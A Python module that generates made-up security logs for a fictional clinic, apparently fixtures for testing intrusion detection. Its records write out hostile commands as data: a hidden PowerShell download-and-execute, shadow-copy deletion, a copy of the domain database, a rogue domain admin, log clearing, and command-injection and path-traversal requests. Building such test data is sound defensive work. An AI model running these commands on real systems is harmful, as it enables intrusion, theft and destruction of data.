"""Made-up logs of a clinic, a few lines each: one deed in each, or none. Every address is one nobody has."""

from __future__ import annotations

import json
from collections.abc import Iterable, Iterator
from datetime import UTC, datetime, timedelta
from typing import Any, Final
from urllib.parse import quote

START: Final = datetime(2026, 4, 14, 8, 0, tzinfo=UTC)
ATTACKER: Final = "203.0.113.77"
OUTSIDE: Final = "198.51.100.23"
SYSTEM: Final = r"C:\Windows\System32"


def at(minutes: float) -> str:
    """Return a moment of that day, as logs write it."""
    return (START + timedelta(minutes=minutes)).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z"


def lines(records: Iterable[dict[str, Any]]) -> bytes:
    """Write records as JSON lines."""
    return b"".join(json.dumps(one, separators=(",", ":")).encode() + b"\n" for one in records)


def process(
    minutes: float, host: str, parent: str, command: str, user: str = "CLINIC\\anna"
) -> dict[str, Any]:
    """Return a record of Sysmon: a program was started."""
    program = command.split(" ", 1)[0].strip('"')
    data = {
        "UtcTime": at(minutes).replace("T", " ")[:-1],
        "Image": program if "\\" in program else f"{SYSTEM}\\{program}",
        "CommandLine": command,
        "ParentImage": parent,
        "User": user,
    }
    return windows(minutes, host, 1, data)


def windows(
    minutes: float, host: str, code: int, data: dict[str, Any], log: str = "Sysmon"
) -> dict[str, Any]:
    """Return a record of a Windows log, as it is exported."""
    provider = f"Microsoft-Windows-{log}" if log == "Sysmon" else "Microsoft-Windows-Security-Auditing"
    channel = "Microsoft-Windows-Sysmon/Operational" if log == "Sysmon" else "Security"
    system = {
        "Provider": {"#attributes": {"Name": provider}},
        "EventID": code,
        "Channel": channel,
        "Computer": f"{host}.clinic.example",
        "EventRecordID": 1_000 + int(minutes * 10),
        "TimeCreated": {"#attributes": {"SystemTime": at(minutes)}},
    }
    return {"Event": {"System": system, "EventData": data}}


def everyday(host: str = "ws11") -> Iterator[dict[str, Any]]:
    """Start programs nobody minds."""
    for number in range(20):
        yield process(number * 7, host, r"C:\Windows\explorer.exe", r"C:\Office\WINWORD.EXE report.docx")


def ransomware() -> bytes:
    """Delete what would help, then write every file anew under another ending."""
    explorer = r"C:\Windows\explorer.exe"
    deeds = [
        process(62, "fs02", explorer, "vssadmin.exe Delete Shadows /All /Quiet", "CLINIC\\svc-scan"),
        process(62.2, "fs02", explorer, "wbadmin delete catalog -quiet", "CLINIC\\svc-scan"),
    ]
    locker = r"C:\Users\Public\lock.exe"
    for number in range(160):
        for name in (
            (f"{number:03}.docx.locked", "HOW_TO_RESTORE.txt")
            if number % 8 == 0
            else (f"{number:03}.docx.locked",)
        ):
            data = {
                "UtcTime": at(63 + number / 60).replace("T", " ")[:-1],
                "Image": locker,
                "TargetFilename": rf"D:\patients\{number // 8:02}\{name}",
                "User": "CLINIC\\svc-scan",
            }
            deeds.append(windows(63 + number / 60, "fs02", 11, data))
    return lines([*everyday("fs02"), *deeds])


def macro() -> bytes:
    """Open a document that starts a script that starts at every logon."""
    word = r"C:\Office\WINWORD.EXE"
    hidden = (
        f"powershell.exe -w hidden IEX(New-Object Net.WebClient).DownloadString('http://{OUTSIDE}/p.ps1')"
    )
    key = r"reg.exe add HKCU\Software\Microsoft\Windows\CurrentVersion\Run /v up /d C:\Users\Public\up.exe"
    deeds = [process(31, "ws11", word, hidden), process(33, "ws11", f"{SYSTEM}\\cmd.exe", key)]
    return lines([*everyday(), *deeds])


def domain() -> bytes:
    """Copy the directory's database, and make an administrator."""
    cmd = f"{SYSTEM}\\cmd.exe"
    copy = r'ntdsutil.exe "ac i ntds" "ifm" "create full c:\temp" q q'
    deeds = [
        process(41, "dc01", cmd, copy, "CLINIC\\tom"),
        process(44, "dc01", cmd, "net.exe user helper2 Spring!2026 /add /domain", "CLINIC\\tom"),
        process(44.5, "dc01", cmd, 'net.exe group "Domain Admins" helper2 /add /domain', "CLINIC\\tom"),
    ]
    return lines([*everyday("dc01"), *deeds])


def cleared() -> bytes:
    """Clear the log, and little else."""
    return lines(
        [
            *everyday("ws14"),
            process(120, "ws14", f"{SYSTEM}\\cmd.exe", "wevtutil.exe cl Security", "CLINIC\\dirk"),
        ]
    )


def remote_once() -> bytes:
    """Start one command over remote management: an administrator does that, and an attacker does."""
    manage = f"{SYSTEM}\\wsmprovhost.exe"
    return lines([*everyday("ws21"), process(50, "ws21", manage, "ipconfig.exe /all", "CLINIC\\admin")])


def quiet() -> bytes:
    """Do what people do."""
    return lines(everyday())


def ssh(guesses: int, *, succeeds: bool) -> bytes:
    """Guess passwords of a server from outside, and perhaps get in."""
    rows = [
        f"{at(number * 9)} gw1 sshd[{2000 + number}]: "
        f"Accepted publickey for ben from 10.0.1.14 port {41000 + number} ssh2"
        for number in range(12)
    ]
    names = ("root", "admin", "backup", "lab", "nurse", "oracle", "test", "web", "ftp", "mail")
    for number in range(guesses):
        name = names[number % len(names)]
        rows.append(
            f"{at(120 + number / 3)} gw1 sshd[{3000 + number}]: Failed password for "
            f"{'' if name == 'lab' else 'invalid user '}{name} from {ATTACKER} port {50000 + number} ssh2"
        )
    if succeeds:
        rows.append(
            f"{at(121 + guesses / 3)} gw1 sshd[3999]: "
            f"Accepted password for lab from {ATTACKER} port 59999 ssh2"
        )
    return "\n".join(rows).encode() + b"\n"


def visits(*requests: tuple[str, str, int, int]) -> bytes:
    """Write an access log: honest visitors, and these requests (source, target, status, size)."""
    agent = "Mozilla/5.0 (X11; Linux x86_64; rv:130.0) Gecko/20100101 Firefox/130.0"
    honest = [
        (f"192.0.2.{10 + number % 9}", target, 200, size + number % 3)
        for number in range(60)
        for target, size in (
            ("/", 1240),
            ("/ping?host=localhost", 21),
            ("/docs?name=terms.txt", 812),
            ("/api/v1/items/tea", 18),
        )
    ]
    rows = []
    for number, (source, target, status, size) in enumerate([*honest, *requests]):
        moment = (START + timedelta(seconds=20 * number)).strftime("%d/%b/%Y:%H:%M:%S +0000")
        rows.append(f'{source} - - [{moment}] "GET {target} HTTP/1.1" {status} {size} "-" "{agent}"')
    return "\n".join(rows).encode() + b"\n"


def web_shell() -> bytes:
    """Put a file among the pictures, and give it commands."""
    commands = ("whoami", "uname", "cat", "wget", "ls", "pwd")
    return visits(
        *(
            (ATTACKER, f"/uploads/2026/logo.php?cmd={one}", 200, 90 + 7 * number)
            for number, one in enumerate(commands)
        )
    )


def broken_in() -> bytes:
    """Use one weakness of the weak shop, try another, leave the third alone."""
    used = [
        ("id", 200, 74),
        ("cat /etc/passwd", 200, 1_893),
        ("uname -a", 200, 131),
        ("ls -la /", 200, 1_204),
        ("nosuch", 500, 40),
    ]
    tried = [(ATTACKER, "/docs?name=" + "..%2f" * depth + "etc%2fpasswd", 404, 16) for depth in range(1, 5)]
    return visits(
        *((ATTACKER, "/ping?host=" + quote(f"x; {what}"), status, size) for what, status, size in used),
        *tried,
    )


def probed() -> bytes:
    """Try one weakness of the weak shop, and be turned away."""
    return visits(
        *((ATTACKER, "/docs?name=" + "..%2f" * depth + "etc%2fpasswd", 404, 16) for depth in range(1, 6))
    )


def mailbox() -> bytes:
    """Send a manager's mail elsewhere."""
    rule = {
        "CreationTime": at(15)[:-5],
        "Operation": "New-InboxRule",
        "RecordType": 1,
        "Workload": "Exchange",
        "UserId": "petra@clinic.example",
        "ClientIP": ATTACKER,
        "ResultStatus": "True",
        "Parameters": [{"Name": "Name", "Value": "."}, {"Name": "ForwardTo", "Value": "box@mail.example"}],
    }
    return lines(
        [
            rule,
            {
                **rule,
                "CreationTime": at(18)[:-5],
                "Parameters": [{"Name": "Name", "Value": ".."}, {"Name": "DeleteMessage", "Value": "True"}],
            },
        ]
    )


def cloud() -> bytes:
    """Stop the cloud's own record, and make a key for somebody else."""
    who = {
        "type": "IAMUser",
        "userName": "kim",
        "accountId": "123456789012",
        "arn": "arn:aws:iam::123456789012:user/kim",
    }
    base = {
        "eventVersion": "1.08",
        "userIdentity": who,
        "sourceIPAddress": ATTACKER,
        "awsRegion": "eu-central-1",
        "userAgent": "aws-cli/2",
    }
    deeds = (
        ("iam.amazonaws.com", "CreateAccessKey", {"userName": "deploy"}),
        (
            "iam.amazonaws.com",
            "AttachUserPolicy",
            {"userName": "deploy", "policyArn": "arn:aws:iam::aws:policy/AdministratorAccess"},
        ),
        ("cloudtrail.amazonaws.com", "StopLogging", {"name": "main"}),
    )
    return lines(
        {
            **base,
            "eventTime": at(5 * number)[:-5] + "Z",
            "eventSource": source,
            "eventName": name,
            "requestParameters": given,
        }
        for number, (source, name, given) in enumerate(deeds)
    )


def cluster() -> bytes:
    """List every secret of a cluster, and run a command in a container."""
    who = {"username": "system:serviceaccount:shop:web", "groups": ["system:serviceaccounts"]}
    deeds = (("list", "secrets", None, 200), ("create", "pods", "exec", 101), ("create", "pods", "exec", 101))
    return lines(
        {
            "kind": "Event",
            "apiVersion": "audit.k8s.io/v1",
            "auditID": f"a{number}",
            "stage": "ResponseComplete",
            "verb": verb,
            "user": who,
            "sourceIPs": [ATTACKER],
            "objectRef": {
                "resource": what,
                "namespace": "shop",
                "name": "web-1",
                **({"subresource": sub} if sub else {}),
            },
            "responseStatus": {"code": code},
            "requestReceivedTimestamp": at(3 * number),
        }
        for number, (verb, what, sub, code) in enumerate(deeds)
    )


def beacon() -> bytes:
    """Call the same machine outside every two minutes for six hours, as Zeek writes connections down."""
    names = ["ts", "uid", "id.orig_h", "id.orig_p", "id.resp_h", "id.resp_p", "proto", "service", "duration"]
    names += ["orig_bytes", "resp_bytes", "conn_state"]
    kinds = ["time", "string", "addr", "port", "addr", "port", "enum", "string", "interval", "count", "count"]
    kinds += ["string"]
    head = [
        "#separator \\x09",
        "#set_separator\t,",
        "#empty_field\t(empty)",
        "#unset_field\t-",
        "#path\tconn",
    ]
    head += ["\t".join(["#fields", *names]), "\t".join(["#types", *kinds])]
    rows = []
    for number in range(180):
        moment = START.timestamp() + number * 120 + (number * 37 % 11) / 4
        rows.append((moment, "10.0.1.55", OUTSIDE, 443, 412 + number % 2, 655))
    for number in range(240):
        moment = START.timestamp() + (number * 7919 % 21_000)
        rows.append(
            (
                moment,
                f"10.0.1.{60 + number % 7}",
                f"192.0.2.{number % 200}",
                443,
                900 + number * 13 % 4000,
                9_000,
            )
        )
    body = [
        "\t".join(
            [
                f"{moment:.6f}",
                f"C{at_}",
                source,
                str(40_000 + at_),
                goal,
                str(port),
                "tcp",
                "ssl",
                "1.5",
                str(out),
                str(back),
                "SF",
            ]
        )
        for at_, (moment, source, goal, port, out, back) in enumerate(sorted(rows))
    ]
    return "\n".join([*head, *body]).encode() + b"\n"
